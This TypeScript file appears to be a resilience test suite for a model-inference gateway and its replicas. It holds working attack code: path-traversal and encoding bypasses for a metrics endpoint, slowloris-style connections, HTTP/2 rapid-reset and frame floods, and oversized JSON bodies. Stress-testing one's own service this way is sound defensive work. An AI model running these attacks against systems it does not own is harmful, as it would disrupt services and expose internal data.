// What somebody may try who reaches the published port, or a replica from inside the network.
import { setTimeout } from "node:timers/promises";
import { FRAME, frame, hello, request } from "./frames.ts";
import { type Address, dial, dialMany, get, hangUp, post, say } from "./wire.ts";

export interface Scene {
  readonly gateway: Address;
  /** As somebody in the network of the requests reaches them. */
  readonly replicas: readonly Address[];
  /** What part of the whole is tried, from 0 to 1. */
  readonly scale: number;
}

export interface Attack {
  readonly name: string;
  readonly what: string;
  /** @returns what came of it, and what of that may not be */
  run(scene: Scene): Promise<{ readonly said: string; readonly wrong?: string | undefined }>;
}

const many = ({ scale }: Scene, whole: number): number => Math.max(4, Math.ceil(whole * scale));
/** ms that a siege lasts. */
const lasting = ({ scale }: Scene, whole: number): number => Math.max(3000, whole * scale);

const largeFile = "/docs/swagger-ui-bundle.js";
const row = '{"sepal_length":5.1,"sepal_width":3.5,"petal_length":1.4,"petal_width":0.2}';
const mebibyte = 1024 ** 2;
const padded = (body: string): string => body.padEnd(mebibyte, " ");

/** Ways to write a path that a careless reader takes for another. */
export const spellings = (path: string): string[] => {
  const name = path.slice(1);
  const hex = (letter: string) => `%${letter.charCodeAt(0).toString(16)}`;
  return [
    ...[path, `/${path}`, `//${path}`, `${path}/`, `${path}?`, `${path}?a=/predict`, `${path}#a`],
    ...[`/.${path}`, `/./.${path}`, `/predict/..${path}`, `/x/..${path}`, `/x/y/../..${path}`],
    ...[`/%2e${path}`, `/predict/%2e%2e${path}`, `/predict/.%2E${path}`, `/docs/..${path}`],
    ...[`/docs/..%2f${name}`, `/docs/%2e%2e%2f${name}`, `/docs/..%5c${name}`, `/docs/..;${path}`],
    ...[`/${hex(name[0] ?? "")}${name.slice(1)}`, `/${name.slice(0, -1)}${hex(name.at(-1) ?? "")}`],
    ...[`/${Array.from(name, hex).join("")}`, `/%25${hex(name[0] ?? "").slice(1)}${name.slice(1)}`],
    ...[`\\${name}`, `/\\${name}`, `/x\\..\\${name}`, `/x/..\\${name}`, `/predict\\..\\${name}`],
    ...[
      `${path};a=b`,
      `/;${path}`,
      `${path}%00`,
      `${path}%20`,
      `${path}%0a`,
      `/${name.toUpperCase()}`,
    ],
    ...[`http://localhost${path}`, `http://localhost/predict/..${path}`, `//localhost${path}`],
    ...[`/v2/models/..%2f..%2f${name}`, `/v2/models/iris/../../..${path}`, `/v2/../${name}`],
    ...[`/%c0%ae%c0%ae/${name}`, `/..%c0%af${name}`, `/%u002e${path}`, `/x/%2e%2e%2f${name}`],
  ];
};

const attacks: readonly Attack[] = [
  {
    name: "metrics",
    what: "a replica's metrics in many spellings of their path, both protocols",
    async run({ gateway }) {
      const paths = spellings("/metrics");
      const replies = await Promise.all(
        paths.flatMap((path) => [say(gateway, get(path)), overHttp2(gateway, "GET", path)]),
      );
      const shown = replies.filter((reply) => reply.includes("inference_")).length;
      const answered = replies.filter((reply) => reply !== "").length;
      return {
        said: `${paths.length} spellings, ${answered} replies, ${shown} with metrics`,
        wrong: shown > 0 ? `${shown} spellings show metrics` : undefined,
      };
    },
  },
  {
    name: "unread",
    what: "the largest file asked for on 200 connections and never read",
    async run(scene) {
      const lines = await dialMany(scene.gateway, many(scene, 200), false);
      for (const { socket } of lines) socket.write(get(largeFile));
      await setTimeout(lasting(scene, 15_000));
      hangUp(lines);
      return { said: `${lines.length} connections` };
    },
  },
  {
    name: "readers",
    what: "the largest file, by 100 ordinary readers at once, three times",
    async run(scene) {
      const { host, port } = scene.gateway;
      const statuses: string[] = [];
      for (let round = 0; round < 3; round++) {
        const replies = Array.from({ length: many(scene, 100) }, async () => {
          const reply = await fetch(`http://${host}:${port}${largeFile}`).catch(() => undefined);
          const bytes = (await reply?.arrayBuffer().catch(() => undefined))?.byteLength ?? 0;
          return `${reply?.status ?? "none"}${reply?.ok === true && bytes < mebibyte ? " short" : ""}`;
        });
        statuses.push(...(await Promise.all(replies)));
      }
      return counted(statuses, (status) => ["200", "503"].includes(status));
    },
  },
  {
    name: "window",
    what: "HTTP/2 without room for replies: 60 requests of the largest file on one connection",
    async run(scene) {
      const count = many(scene, 60);
      const lines = await dialMany(scene.gateway, 1);
      const [line] = lines;
      line?.socket.write(hello([[4, 0]]));
      for (let i = 0; i < count; i++) {
        line?.socket.write(frame(FRAME.headers, 5, 2 * i + 1, request("GET", largeFile)));
      }
      await setTimeout(lasting(scene, 10_000));
      hangUp(lines);
      return { said: `${count} requests` };
    },
  },
  {
    name: "senders",
    what: "300 clients send 20 kB of 900 kB, then a byte a second",
    async run(scene) {
      const lines = await dialMany(scene.gateway, many(scene, 300));
      for (const { socket } of lines) {
        socket.write(post({ "Content-Length": 900_000 }, "[".padEnd(20_000, " ")));
      }
      for (const end = performance.now() + lasting(scene, 25_000); performance.now() < end;) {
        await setTimeout(1000);
        for (const { socket, ended } of lines) if (!ended()) socket.write(" ");
      }
      const cut = lines.filter((line) => line.ended() || line.received() !== "").length;
      hangUp(lines);
      return { said: `${lines.length} connections, ${cut} of them ended or answered meanwhile` };
    },
  },
  {
    name: "chunked senders",
    what: "300 clients send chunks of a body of no length, a byte a second",
    async run(scene) {
      const lines = await dialMany(scene.gateway, many(scene, 300));
      for (const { socket } of lines) {
        socket.write(
          post({ "Transfer-Encoding": "chunked" }, "4e20\r\n[".padEnd(20_006, " ") + "\r\n"),
        );
      }
      for (const end = performance.now() + lasting(scene, 15_000); performance.now() < end;) {
        await setTimeout(1000);
        for (const { socket, ended } of lines) if (!ended()) socket.write("1\r\n \r\n");
      }
      hangUp(lines);
      return { said: `${lines.length} connections` };
    },
  },
  ...(
    [
      ["deep", "arrays in arrays", "[".repeat(mebibyte)],
      ["rows", "valid rows", `[${`${row},`.repeat(9_000)}${row}]`],
      ["padding", "one valid row and blanks", padded(row)],
      ["digits", "digits", `{"sepal_length":${"9".repeat(mebibyte - 100)}}`],
      ["strings", "short strings", `["${'","'.repeat(mebibyte / 3 - 10)}"]`],
    ] as const
  ).map(([name, of, body]): Attack => ({
    name,
    what: `60 bodies of 1 MiB at once, three times: ${of}`,
    async run(scene) {
      const { host, port } = scene.gateway;
      const statuses: string[] = [];
      for (let round = 0; round < 3; round++) {
        const replies = Array.from({ length: many(scene, 60) }, () =>
          fetch(`http://${host}:${port}/predict`, {
            method: "POST",
            headers: { "content-type": "application/json" },
            body,
          })
            .then(async (reply) => {
              await reply.arrayBuffer();
              return String(reply.status);
            })
            .catch(() => "none"),
        );
        statuses.push(...(await Promise.all(replies)));
      }
      // Who is answered in the middle of a body may see the connection's end before the answer.
      return counted(statuses, (status) => /^(200|4\d\d|503|none)$/.test(status));
    },
  })),
  {
    name: "chunks",
    what: "16 bodies of 200 kB in chunks of one byte",
    run: (scene) => inChunks(scene, scene.gateway, /^(4\d\d|503)$/),
  },
  {
    name: "methods",
    what: "upgrades to HTTP/2, lower-case methods, CONNECT, eight at once, twenty times",
    async run(scene) {
      const upgrade = [
        "Connection: Upgrade, HTTP2-Settings",
        "Upgrade: h2c",
        "HTTP2-Settings: AAMAAABk",
      ];
      const texts = [
        get("/readyz", "GET", upgrade),
        get("/readyz", "GET", ["Connection: Upgrade", "Upgrade: websocket"]),
        get("/readyz", "get"),
        get("localhost:80", "CONNECT"),
        get("/readyz", "TRACE"),
        get("/readyz", "GET", ["Connection: Upgrade"]),
      ];
      const statuses: string[] = [];
      for (let round = 0; round < many(scene, 20); round++) {
        const eight = texts.flatMap((text) =>
          Array.from({ length: 8 }, () => say(scene.gateway, text)),
        );
        statuses.push(...(await Promise.all(eight)).map(statusOf));
      }
      return counted(statuses, (status) => /^(200|4\d\d|501)$/.test(status));
    },
  },
  {
    name: "resets",
    what: "rapid reset: 20,000 requests over HTTP/2, each given up at once",
    async run(scene) {
      const count = many(scene, 20_000);
      const lines = await dialMany(scene.gateway, 4);
      for (let i = 0; i < count; i++) {
        const { socket, ended } = lines[i % lines.length] ?? {};
        if (socket === undefined || ended?.() !== false) continue;
        const id = 2 * Math.floor(i / lines.length) + 1;
        if (id === 1) socket.write(hello());
        socket.write(frame(FRAME.headers, 4, id, request("POST", "/predict")));
        socket.write(frame(FRAME.reset, 0, id, Buffer.from([0, 0, 0, 8])));
        if (i % 200 === 0) await setTimeout(5);
      }
      await setTimeout(2000);
      hangUp(lines);
      return { said: `${count} requests` };
    },
  },
  {
    name: "given up",
    what: "300 predictions of 100 rows at once over HTTP/2, given up while they wait, again and again",
    async run(scene) {
      const lines = await dialMany(scene.gateway, 10);
      for (const { socket } of lines) socket.write(hello());
      const head = request("POST", "/predict");
      const body = Buffer.from(`[${`${row},`.repeat(99)}${row}]`);
      let asked = 0;
      const until = performance.now() + lasting(scene, 10_000);
      for (let first = 1; performance.now() < until; first += 60) {
        const ids = Array.from({ length: 30 }, (_, i) => first + 2 * i);
        const each = async (part: (id: number) => Buffer, ms: number): Promise<void> => {
          const bytes = Buffer.concat(ids.map(part));
          for (const { socket, ended } of lines) if (!ended()) socket.write(bytes);
          await setTimeout(ms);
        };
        await each(
          (id) =>
            Buffer.concat([frame(FRAME.headers, 4, id, head), frame(FRAME.data, 1, id, body)]),
          20,
        );
        await each((id) => frame(FRAME.reset, 0, id, Buffer.from([0, 0, 0, 8])), 1);
        asked += ids.length * lines.length;
      }
      hangUp(lines);
      return { said: `${asked} requests` };
    },
  },
  {
    name: "headers",
    what: "1,000 connections that send a header a second",
    async run(scene) {
      const lines = await dialMany(scene.gateway, many(scene, 1000));
      for (const { socket } of lines) socket.write("GET /readyz HTTP/1.1\r\nHost: localhost\r\n");
      for (const end = performance.now() + lasting(scene, 15_000); performance.now() < end;) {
        await setTimeout(1000);
        for (const { socket, ended } of lines) if (!ended()) socket.write("x: y\r\n");
      }
      hangUp(lines);
      return { said: `${lines.length} connections` };
    },
  },
  {
    name: "idle",
    what: "2,500 connections that say nothing",
    async run(scene) {
      const lines = await dialMany(scene.gateway, many(scene, 2500));
      await setTimeout(lasting(scene, 15_000));
      hangUp(lines);
      return { said: `${lines.length} connections` };
    },
  },
  ...(
    [
      ["data", "DATA frames of one byte, 4 MB of them", frame(FRAME.data, 0, 1, Buffer.from(" "))],
      ["pings", "PING frames", frame(FRAME.ping, 0, 0, Buffer.alloc(8))],
      [
        "settings",
        "SETTINGS frames",
        frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])),
      ],
      [
        "windows",
        "WINDOW_UPDATE frames",
        frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
      ],
      ["empty", "empty DATA frames", frame(FRAME.data, 0, 1)],
      [
        "continuation",
        "CONTINUATION frames without an end",
        frame(FRAME.continuation, 0, 1, Buffer.alloc(64)),
      ],
    ] as const
  ).map(([name, of, each]): Attack => ({
    name: `inside: ${name}`,
    what: `straight to a replica, on 20 connections that read nothing: ${of}`,
    async run(scene) {
      const [replica] = scene.replicas;
      if (replica === undefined) return { said: "no replica" };
      const lines = await dialMany(replica, 20, false);
      const flood = Buffer.concat(Array.from({ length: 4096 }, () => each));
      const headers =
        name === "continuation"
          ? frame(FRAME.headers, 0, 1, request("POST", "/predict"))
          : frame(FRAME.headers, 4, 1, request("POST", "/predict"));
      for (const { socket } of lines) socket.write(Buffer.concat([hello(), headers]));
      for (let sent = 0; sent < many(scene, 200_000); sent += 4096) {
        for (const { socket, ended } of lines) {
          if (!ended() && socket.writableLength < 4 * mebibyte) socket.write(flood);
        }
        await setTimeout(5);
      }
      const ended = lines.filter((line) => line.ended()).length;
      hangUp(lines);
      return { said: `${lines.length} connections, ${ended} of them ended` };
    },
  })),
  {
    name: "inside: chunks",
    what: "straight to a replica: 16 bodies of 200 kB in chunks of one byte",
    async run(scene) {
      const [replica] = scene.replicas;
      if (replica === undefined) return { said: "no replica" };
      // Who is refused in the middle of a body may not hear why.
      return inChunks(scene, replica, /^(4\d\d|503|none)$/);
    },
  },
  {
    name: "inside: unread",
    what: "straight to a replica: the largest file on 60 streams without room, and on 60 connections",
    async run(scene) {
      const [replica] = scene.replicas;
      if (replica === undefined) return { said: "no replica" };
      const lines = await dialMany(replica, many(scene, 60), false);
      for (const { socket } of lines) socket.write(get(largeFile));
      const multiplexed = await dial(replica, false);
      multiplexed?.socket.write(hello([[4, 0]]));
      for (let i = 0; i < many(scene, 60); i++) {
        multiplexed?.socket.write(frame(FRAME.headers, 5, 2 * i + 1, request("GET", largeFile)));
      }
      await setTimeout(lasting(scene, 8000));
      hangUp([...lines, ...(multiplexed ? [multiplexed] : [])]);
      return { said: `${lines.length} connections` };
    },
  },
];

export default attacks;

const statusOf = (reply: string): string => /^HTTP\/1\.1 (\d+)/.exec(reply)?.[1] ?? "none";

function counted(statuses: readonly string[], allowed: (status: string) => boolean) {
  const counts = new Map<string, number>();
  for (const status of statuses) counts.set(status, (counts.get(status) ?? 0) + 1);
  const bad = statuses.filter((status) => !allowed(status)).length;
  return {
    said: [...counts].map(([status, count]) => `${count} × ${status}`).join(", "),
    wrong: bad > 0 ? `${bad} of ${statuses.length} replies were not what they may be` : undefined,
  };
}

/** One request over HTTP/2, and what came back as text; frames are not taken apart. */
async function overHttp2(to: Address, method: string, path: string): Promise<string> {
  const headers = frame(FRAME.headers, 5, 1, request(method, path.slice(0, 120)));
  return say(to, Buffer.concat([hello(), headers]), 1000);
}

/** Bodies that are nothing but chunks of one byte. */
async function inChunks(scene: Scene, to: Address, allowed: RegExp) {
  const body = `${`1\r\n \r\n`.repeat(many(scene, 200_000))}0\r\n\r\n`;
  const replies = await Promise.all(
    Array.from({ length: 16 }, () =>
      say(to, post({ "Transfer-Encoding": "chunked" }, body), 30_000),
    ),
  );
  return counted(replies.map(statusOf), (status) => allowed.test(status));
}
